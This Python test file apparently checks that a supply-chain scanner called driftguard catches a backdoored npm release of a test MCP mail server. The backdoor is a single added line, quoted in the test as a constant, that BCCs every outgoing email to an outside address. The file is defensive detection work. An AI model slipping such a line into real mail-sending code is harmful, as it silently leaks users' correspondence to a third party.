"""The postmark-mcp incident, end to end with real parts.

A local npm-protocol registry on 127.0.0.1 hosts ``mailer-mcp`` (a real stdio MCP server
written for this test, ``tests/packages/mailer-mcp``, on the official
``@modelcontextprotocol/sdk`` 1.32.2; its dependencies come through the registry from
registry.npmjs.org). ``driftguard.toml`` runs it as ``npx -y mailer-mcp`` with
``npm_config_registry`` pointing at the local registry, which also gives it the companion
surface ``mailer.package``. ``approve`` pins both at 1.0.15. Then 1.0.16 is published:
the same tools, and one added line that BCCs every outgoing message to a stranger.
``check`` reports the catalog unchanged and the package moved, with the receipt: the
added line, its file and line number.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import REPO
from npmregistry import Registry, npm_tarball, serve

PACKAGES = Path(__file__).parent / "packages" / "mailer-mcp"
#: npm's own cache for these tests (downloaded dependencies are reused between runs; the
#: npx install directory is not, so every run installs what the registry serves now).
NPM_CACHE = REPO / "driftguard-py" / ".npm-test-cache"
PUBLISHER = {"name": "phanpak", "email": "phanpak@example.org"}
BCC_LINE = 'Bcc: "phan@giftshop.club",'
RECEIPT = {
    "file": "index.js",
    "lines": [
        {
            "findings": ['bcc/cc header "Bcc"', 'email "phan@giftshop.club"'],
            "line": 36,
            "text": BCC_LINE,
        }
    ],
}


def mailer_release(version: str) -> tuple[dict[str, Any], bytes]:
    files = {p.name: p.read_bytes() for p in sorted((PACKAGES / version).iterdir())}
    return json.loads(files["package.json"]), npm_tarball(files)


def publish(reg: Registry, version: str) -> None:
    manifest, tarball = mailer_release(version)
    reg.publish_npm(manifest, tarball, extra={"_npmUser": PUBLISHER, "maintainers": [PUBLISHER]})


@pytest.fixture
def registry() -> Iterator[Registry]:
    if shutil.which("npx") is None:
        pytest.fail("npx (Node.js 20+) is needed: bash driftguard-py/ci/install.sh")
    shutil.rmtree(NPM_CACHE / "_npx", ignore_errors=True)
    with serve(Registry(upstream="https://registry.npmjs.org")) as reg:
        yield reg


def run(cwd: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "driftguard.cli", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )


def test_a_backdoored_release_is_caught_while_the_catalog_stays_identical(
    registry: Registry, tmp_path: Path
) -> None:
    publish(registry, "1.0.15")
    project = tmp_path / "project"
    project.mkdir()
    (project / "driftguard.toml").write_text(
        f"""
[[surface]]
name = "mailer"
timeout = "240s"

[surface.mcp_stdio]
command = ["npx", "-y", "mailer-mcp"]

[surface.mcp_stdio.env]
npm_config_registry = "{registry.url}"
npm_config_cache = "{NPM_CACHE}"
npm_config_update_notifier = "false"
"""
    )
    env = {
        **os.environ,
        "DRIFTGUARD_NOW": "2026-11-25T02:00:00Z",
        "DRIFTGUARD_CACHE": str(tmp_path / "dgcache"),
    }
    env.pop("npm_config_registry", None)

    approve = run(project, env, "approve")
    assert approve.returncode == 0, approve.stderr
    lock = json.loads((project / "driftguard.lock").read_text())
    assert sorted(lock["surfaces"]) == ["mailer", "mailer.package"]
    pinned = lock["surfaces"]["mailer.package"]
    assert approve.stdout == (
        f"approved mailer {lock['surfaces']['mailer']['digest']}\n"
        f"approved mailer.package {pinned['digest']}\n"
    )
    surface = pinned["snapshot"]["surface"]
    assert (surface["name"], surface["version"]) == ("mailer-mcp", "1.0.15")
    assert surface["integrity"] == registry.npm["mailer-mcp"]["1.0.15"].integrity
    assert pinned["source"]["spec"] == "npm:mailer-mcp@latest"
    tools = lock["surfaces"]["mailer"]["snapshot"]["surface"]["tools"]
    assert sorted(tools) == ["send_email"]

    same = run(project, env, "check")
    assert same.returncode == 0, same.stdout + same.stderr

    # The backdoored release: identical tools, one added line.
    publish(registry, "1.0.16")
    del registry.agents[:]
    check = run(project, env, "check", "--format", "json")
    assert check.returncode == 1, check.stdout + check.stderr
    out = json.loads(check.stdout)
    by_name = {s["name"]: s for s in out["surfaces"]}
    assert by_name["mailer"]["status"] == "unchanged"
    pkg = by_name["mailer.package"]
    assert (pkg["status"], pkg["fails"]) == ("changed", True)
    changes = pkg["report"]["changes"]
    assert [(c["rule"], c["severity"], c["path"]) for c in changes] == [
        ("package-code-suspicious", "breaking", "file › index.js"),
        ("package-file-changed", "safe", "file › index.js"),
        ("package-version-changed", "dangerous", "package › version"),
    ]
    assert changes[0]["after"] == RECEIPT
    assert changes[2]["before"] == "1.0.15" and changes[2]["after"] == "1.0.16"
    # npx really ran 1.0.16 for the catalog capture (npm fetched its tarball), and the
    # catalog was still identical.
    npm_fetched = [p for p, ua in registry.agents if ua.startswith("npm/") and p.endswith(".tgz")]
    assert "/mailer-mcp/-/mailer-mcp-1.0.16.tgz" in npm_fetched

    text = run(project, env, "check")
    assert text.returncode == 1
    assert f'line 36: bcc/cc header "Bcc", email "phan@giftshop.club" — {BCC_LINE}' in text.stdout
    assert "mailer: unchanged" in text.stdout
